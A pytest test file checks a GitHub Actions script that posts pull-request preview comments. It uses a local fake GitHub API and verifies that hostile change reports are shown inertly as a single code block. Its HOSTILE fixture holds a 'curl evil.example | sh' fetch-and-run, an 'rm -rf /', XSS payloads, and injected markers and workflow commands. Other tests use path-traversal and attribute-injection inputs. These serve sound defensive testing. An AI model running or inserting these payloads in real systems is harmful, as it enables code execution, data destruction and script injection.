"""The preview comment script (.github/scripts/preview_comment.py), run as the deploy workflow
runs it: against a fake event (its environment) and a local HTTP server on 127.0.0.1 standing
in for the GitHub API. Asserts the comment that would be posted, for hostile reports too."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml
from markdown_it import MarkdownIt

ROOT = Path(__file__).resolve().parent.parent
SCRIPT = ROOT / ".github" / "scripts" / "preview_comment.py"
SHA = "0123456789abcdef0123456789abcdef01234567"
URL = "https://pr-12.dossier-previews.pages.dev"
MARKER = "<!-- dossier-preview -->"
BOT = {"login": "github-actions[bot]", "type": "Bot"}
HEADER = (f"{MARKER}\n**Preview** of 0123456: {URL}\n\nBuilt from this pull request by the Preview workflow and "
          "served from a separate origin (Cloudflare Pages), not from the published site.\n\n"
          "<details open><summary>Change report (built from this pull request, shown as text)</summary>\n\n")


class FakeGitHub:
    """Comments of pull request 12, served and changed like the REST API does."""

    def __init__(self, comments: list[dict]):
        self.comments = comments
        self.pull: dict | None = None
        self.requests: list[tuple[str, str, dict | None]] = []

    def handler(self):
        api = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self, status: int, body: object) -> None:
                data = json.dumps(body).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def _body(self):
                length = int(self.headers.get("Content-Length") or 0)
                return json.loads(self.rfile.read(length)) if length else None

            def do_GET(self):  # noqa: N802
                api.requests.append(("GET", self.path, None))
                assert self.headers["Authorization"] == "Bearer test-token"
                if self.path == "/repos/owner/dossier/pulls/12" and api.pull is not None:
                    return self._answer(200, api.pull)
                if self.path.startswith("/repos/owner/dossier/issues/12/comments?per_page=100&page="):
                    page = int(self.path.rsplit("=", 1)[1])
                    return self._answer(200, api.comments[(page - 1) * 100: page * 100])
                self._answer(404, {"message": "Not Found"})

            def do_POST(self):  # noqa: N802
                body = self._body()
                api.requests.append(("POST", self.path, body))
                api.comments.append({"id": 999, "user": BOT, "body": body["body"]})
                self._answer(201, api.comments[-1])

            def do_PATCH(self):  # noqa: N802
                body = self._body()
                api.requests.append(("PATCH", self.path, body))
                self._answer(200, {"id": int(self.path.rsplit("/", 1)[1]), "body": body["body"]})

            def log_message(self, *args):
                pass

        return Handler


@pytest.fixture
def github():
    def start(comments=()):
        fake = FakeGitHub(list(comments))
        server = ThreadingHTTPServer(("127.0.0.1", 0), fake.handler())
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        fake.url = f"http://127.0.0.1:{server.server_address[1]}"
        return fake

    servers: list[ThreadingHTTPServer] = []
    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


def run_comment(tmp_path: Path, api: FakeGitHub, report: str | bytes | None, **env: str):
    report_file = tmp_path / "preview" / "report.md"
    report_file.parent.mkdir(exist_ok=True)
    if report is not None:
        report_file.write_bytes(report.encode("utf-8") if isinstance(report, str) else report)
    environ = {"PATH": os.environ.get("PATH", ""), "GITHUB_API_URL": api.url, "GITHUB_REPOSITORY": "owner/dossier",
               "GH_TOKEN": "test-token", "PR_NUMBER": "12", "HEAD_SHA": SHA, "PREVIEW_URL": URL,
               "REASON": "ok", "REPORT_FILE": str(report_file), **env}
    return subprocess.run([sys.executable, str(SCRIPT)], env=environ, capture_output=True, text=True,
                          timeout=60, cwd=tmp_path)


def posted(api: FakeGitHub) -> list[tuple[str, str, str]]:
    return [(method, path, body["body"]) for method, path, body in api.requests if method != "GET"]


REPORT = "# Change report\n\n## Sources\n\n- added `s4` `Ferries run late`\n"


def test_first_comment_is_posted_with_the_link_and_the_report(tmp_path, github):
    api = github()
    result = run_comment(tmp_path, api, REPORT)
    assert result.returncode == 0, result.stdout + result.stderr
    assert posted(api) == [("POST", "/repos/owner/dossier/issues/12/comments",
                            HEADER + "```text\n" + REPORT.rstrip("\n") + "\n```\n\n</details>\n")]
    assert "Ferries" not in result.stdout + result.stderr, "the report never reaches the log"


def test_the_comment_is_updated_not_duplicated(tmp_path, github):
    others = [{"id": i, "user": {"login": f"user{i}", "type": "User"}, "body": "looks good"} for i in range(1, 120)]
    forged = {"id": 500, "user": {"login": "mallory", "type": "User"}, "body": MARKER + " fake preview"}
    ours = {"id": 777, "user": BOT, "body": MARKER + "\nold"}
    api = github([*others, forged, ours])
    result = run_comment(tmp_path, api, REPORT)
    assert result.returncode == 0, result.stderr
    [(method, path, body)] = posted(api)
    assert (method, path) == ("PATCH", "/repos/owner/dossier/issues/comments/777")
    assert body.startswith(HEADER)
    assert [p for m, p, _ in api.requests if m == "GET"] == [
        "/repos/owner/dossier/issues/12/comments?per_page=100&page=1",
        "/repos/owner/dossier/issues/12/comments?per_page=100&page=2"]


HOSTILE = (
    "# Change report\n\n"
    "```\n</details>\n\n@everyone ${{ secrets.CLOUDFLARE_API_TOKEN }} $(curl evil.example | sh) `rm -rf /`\n"
    "<script>alert(1)</script><img src=x onerror=alert(1)> [click](javascript:alert(1))\n"
    "````````\n~~~\n<!-- dossier-preview -->\n::error::forged\r\nend\x00\x1b[31m\n"
)


def test_a_hostile_report_is_posted_as_text_that_renders_as_one_code_block(tmp_path, github):
    api = github()
    result = run_comment(tmp_path, api, HOSTILE)
    assert result.returncode == 0, result.stderr
    [(_, _, body)] = posted(api)
    shown = HOSTILE.replace("\r\n", "\n").replace("\x00", "\ufffd").replace("\x1b", "\ufffd").rstrip("\n")
    assert body == HEADER + "`````````text\n" + shown + "\n`````````\n\n</details>\n"
    tokens = MarkdownIt("commonmark").parse(body)
    fences = [t for t in tokens if t.type == "fence"]
    assert [t.content for t in fences] == [shown + "\n"], "the whole report is one code block"
    html_blocks = [t.content.strip() for t in tokens if t.type == "html_block"]
    assert html_blocks == [MARKER, "<details open><summary>Change report (built from this pull request, shown as "
                                   "text)</summary>", "</details>"]
    inline = [child for t in tokens if t.type == "inline" for child in t.children or ()]
    assert not [c for c in inline if c.type in ("html_inline", "image")]
    assert [c.attrs.get("href") for c in inline if c.type == "link_open"] == []
    assert "everyone" not in result.stdout and "forged" not in result.stdout


def test_a_report_too_long_for_a_comment_is_cut_at_a_line(tmp_path, github):
    api = github()
    report = "".join(f"- line {i:06d}\n" for i in range(10_000))
    assert run_comment(tmp_path, api, report).returncode == 0
    [(_, _, body)] = posted(api)
    assert len(body) < 65_536
    assert "- line 004284\n```\n" in body and "line 004285" not in body
    assert body.endswith("</details>\n\nThe report is longer than a comment can hold: the whole of it is in the "
                         "run's `preview` artifact.\n")


def test_no_report_still_gives_the_link(tmp_path, github):
    api = github()
    assert run_comment(tmp_path, api, None).returncode == 0
    [(_, _, body)] = posted(api)
    assert body == (f"{MARKER}\n**Preview** of 0123456: {URL}\n\nBuilt from this pull request by the Preview "
                    "workflow and served from a separate origin (Cloudflare Pages), not from the published site.\n\n"
                    "(No change report came with this build.)\n")


def test_a_fork_waiting_for_the_label_gets_no_report(tmp_path, github):
    api = github()
    assert run_comment(tmp_path, api, HOSTILE, PREVIEW_URL="", REASON="needs-label").returncode == 0
    assert posted(api) == [("POST", "/repos/owner/dossier/issues/12/comments", (
        f"{MARKER}\nNo preview yet for 0123456: this pull request comes from a fork, so a maintainer has to read "
        "the changes and add the `safe-to-preview` label first (needed again after every new push).\n"))]


@pytest.mark.parametrize("env", [
    {"PREVIEW_URL": "https://evil.example.com", "REASON": "ok"},
    {"PREVIEW_URL": URL + "/x\" onclick=\"", "REASON": "ok"},
    {"PR_NUMBER": "12/../../13"},
    {"HEAD_SHA": "not-a-sha"},
], ids=["other-host", "url-with-more", "bad-number", "bad-sha"])
def test_nothing_is_posted_on_bad_values(tmp_path, github, env):
    api = github()
    result = run_comment(tmp_path, api, REPORT, **env)
    assert result.returncode != 0
    assert posted(api) == []


# ---- the three scripts in sequence, wired as preview-deploy.yml wires them, on a fake event

EXPRESSION = re.compile(r"\$\{\{\s*([a-z_.]+)\s*\}\}")


def resolve(value: str, context: dict) -> str:
    """The workflow's `${{ a.b.c }}` in an `env:` value, looked up in `context`."""
    def lookup(match: re.Match) -> str:
        node: object = context
        for part in match.group(1).split("."):
            node = node.get(part, "") if isinstance(node, dict) else ""
        return str(node)
    return EXPRESSION.sub(lookup, value)


def run_step(step: dict, context: dict, tmp_path: Path, api: FakeGitHub) -> dict[str, str]:
    script = ROOT / step["run"].split()[1]
    output = tmp_path / f"{step.get('id', 'step')}.out"
    output.write_text("")
    env = {"PATH": os.environ.get("PATH", ""), "GITHUB_OUTPUT": str(output), "GITHUB_API_URL": api.url,
           "GITHUB_REPOSITORY": "owner/dossier", **{k: resolve(str(v), context) for k, v in step["env"].items()}}
    result = subprocess.run([sys.executable, str(script)], env=env, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stdout + result.stderr
    return dict(line.split("=", 1) for line in output.read_text().splitlines() if line)


def test_the_deploy_workflow_scripts_on_a_fake_workflow_run_event(tmp_path, github):
    workflow = yaml.safe_load((ROOT / ".github" / "workflows" / "preview-deploy.yml").read_text("utf-8"))
    job_steps = workflow["jobs"]["deploy"]["steps"]
    by_id = {step.get("id"): step for step in job_steps}
    comment = next(step for step in job_steps if "preview_comment.py" in step.get("run", ""))
    event = {"workflow_run": {"id": 4242, "head_sha": SHA, "event": "pull_request", "conclusion": "success",
                              "head_repository": {"id": 1000}, "actor": {"login": "contributor"}}}
    runner_temp = tmp_path / "runner"
    artifact = runner_temp / "preview"
    (artifact / "site").mkdir(parents=True)
    (artifact / "site" / "index.html").write_text("<!doctype html><title>preview</title>")
    (artifact / "pr_number").write_text("12\n")
    (artifact / "head_sha").write_text(SHA + "\n")
    (artifact / "report.md").write_text(HOSTILE, encoding="utf-8")
    api = github()
    api.pull = {"number": 12, "state": "open", "head": {"sha": SHA, "repo": {"id": 1000}},
                "base": {"repo": {"id": 1000}}, "labels": []}
    context = {"github": {"event": event, "token": "test-token"}, "runner": {"temp": str(runner_temp)}, "steps": {}}
    for step_id in ("artifact", "pr"):
        context["steps"][step_id] = {"outputs": run_step(by_id[step_id], context, tmp_path, api)}
    assert context["steps"]["artifact"]["outputs"] == {"pr_number": "12", "head_sha": SHA, "report": "true"}
    assert context["steps"]["pr"]["outputs"] == {"deploy": "true", "reason": "ok", "fork": "false", "approved_sha": SHA}
    context["steps"]["deploy"] = {"outputs": {"url": URL}}  # what the (separately tested) deploy step outputs
    run_step(comment, context, tmp_path, api)
    [(method, path, body)] = posted(api)
    assert (method, path) == ("POST", "/repos/owner/dossier/issues/12/comments")
    assert body.startswith(HEADER + "`````````text\n# Change report\n")
